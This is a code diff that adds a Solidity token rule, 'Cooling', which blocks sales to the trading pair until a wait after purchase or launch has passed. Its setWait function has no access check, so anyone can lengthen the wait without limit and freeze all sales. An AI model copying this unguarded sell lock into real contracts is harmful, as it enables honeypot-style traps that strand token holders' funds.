@@ -363,3 +363,21 @@ contract TakingTheRest is Ruled {
         return 0;
     }
 }
+
+/// Is sold half an hour after its purchase, or after its launch by who had it then, unless the wait is made longer.
+contract Cooling is Ruled {
+    uint256 private immutable launched = block.timestamp;
+    uint256 public wait = 30 minutes;
+    mapping(address account => uint256) private bought;
+
+    function setWait(uint256 seconds_) external {
+        wait = seconds_;
+    }
+
+    function rule(address from, address to, uint256) internal override returns (uint256) {
+        if (from == pair) bought[to] = block.timestamp;
+        uint256 since = bought[from] == 0 ? launched : bought[from];
+        if (to == pair) require(block.timestamp >= since + wait, "cooling");
+        return 0;
+    }
+}
